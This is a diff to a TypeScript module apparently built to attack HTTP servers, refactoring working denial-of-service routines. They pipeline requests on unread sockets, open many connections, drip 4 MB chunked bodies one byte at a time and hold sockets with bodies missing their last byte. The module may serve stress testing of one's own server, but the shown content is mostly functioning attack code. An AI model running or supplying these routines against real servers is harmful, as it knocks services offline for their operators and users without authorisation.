@@ -3,43 +3,23 @@ import type * as net from "node:net"
 import type { Attack } from "./connectionAttacks.ts"
 import * as Frames from "./frames.ts"
 import { connect, get, handshake, pause, post, postAndRead, type Target, write } from "./httpRequests.ts"
+import * as Sockets from "./httpSockets.ts"
 
-/** Pipelines requests on unread sockets. A new socket replaces one that the victim closes. */
-const unread = (sockets: number, body: (index: number) => string): Attack<Target> => async (target, signal) => {
-  const attackOnce = async (): Promise<void> => {
-    while (!signal.aborted) {
-      const session = await handshake(target)
-      const socket = await connect(target)
-      if (socket === undefined) {
-        await pause(100)
-        continue
-      }
-      socket.pause()
-      signal.addEventListener("abort", () => socket.destroy(), { once: true })
-      for (let index = 1; !signal.aborted && await write(socket, post(target, body(index), session)); index++) {
-        if (index % 16 === 0) await pause(0)
-      }
-      socket.destroy()
+/** Pipelines requests on unread sockets. */
+const unread = (sockets: number, body: (index: number) => string): Attack<Target> =>
+  Sockets.renewed(sockets, async (target, socket, signal) => {
+    socket.pause()
+    const session = await handshake(target)
+    for (let index = 1; !signal.aborted && await write(socket, post(target, body(index), session)); index++) {
+      if (index % 16 === 0) await pause(0)
     }
-  }
-  await Promise.all(Array.from({ length: sockets }, attackOnce))
-}
+  })
 
-/** Sends one call on each of many connections. A new connection replaces one that the victim closes. */
+/** Sends one call on each of many connections. */
 const many = (sockets: number, body: (index: number) => string): Attack<Target> => async (target, signal) => {
-  const open = new Set<net.Socket>()
   const session = await handshake(target)
-  for (let index = 1; !signal.aborted; index++) {
-    const socket = open.size < sockets ? await connect(target) : undefined
-    if (socket === undefined) {
-      await pause(20)
-      continue
-    }
-    open.add(socket)
-    socket.on("close", () => open.delete(socket)).resume()
-    await write(socket, post(target, body(index), session))
-  }
-  for (const socket of open) socket.destroy()
+  const call = (to: Target, socket: net.Socket, index: number) => write(socket.resume(), post(to, body(index), session))
+  await Sockets.open(sockets, call)(target, signal)
 }
 
 /** Posts one text after another, and reads the responses. */
@@ -100,46 +80,27 @@ const unreadStreams = (streams: number): Attack<Target> => async (target, signal
 }
 
 /** Sends bodies of 4 MB in chunks of one byte. */
-const bytewise = (sockets: number): Attack<Target> => async (target, signal) => {
-  const session = await handshake(target)
-  const head = post(target, "", session).replace("Content-Length: 0", "Transfer-Encoding: chunked")
+const bytewise = (sockets: number): Attack<Target> => {
   const chunks = "1\r\nx\r\n".repeat(10_000)
-  const attackOnce = async (): Promise<void> => {
-    while (!signal.aborted) {
-      const socket = await connect(target)
-      if (socket === undefined) {
-        await pause(100)
-        continue
-      }
-      socket.on("data", () => {})
-      signal.addEventListener("abort", () => socket.destroy(), { once: true })
-      await write(socket, head)
-      for (let bytes = 0; bytes < 4_000_000 && !signal.aborted && await write(socket, chunks); bytes += 10_000) {
-        await pause(0)
-      }
-      socket.destroy()
+  return Sockets.renewed(sockets, async (target, socket, signal) => {
+    const session = await handshake(target)
+    await write(
+      socket.resume(),
+      post(target, "", session).replace("Content-Length: 0", "Transfer-Encoding: chunked")
+    )
+    for (let bytes = 0; bytes < 4_000_000 && !signal.aborted && await write(socket, chunks); bytes += 10_000) {
+      await pause(0)
     }
-  }
-  await Promise.all(Array.from({ length: sockets }, attackOnce))
+  })
 }
 
 /** Sends bodies of 4 MB without their last byte, and waits. */
-const halfBodies = (limit: number): Attack<Target> => async (target, signal) => {
-  const sockets = new Set<net.Socket>()
+const halfBodies = (limit: number): Attack<Target> => {
   const body = "x".repeat(4_000_000)
-  const head = post(target, body).slice(0, -1)
-  while (!signal.aborted) {
-    const socket = sockets.size < limit ? await connect(target) : undefined
-    if (socket === undefined) {
-      await pause(50)
-      continue
-    }
-    sockets.add(socket)
-    socket.on("close", () => sockets.delete(socket))
-    socket.write(head)
+  return Sockets.open(limit, async (target, socket) => {
+    socket.write(post(target, body).slice(0, -1))
     await pause(10)
-  }
-  for (const socket of sockets) socket.destroy()
+  })
 }
 
 export const httpAttacks: Readonly<Record<string, Attack<Target>>> = {
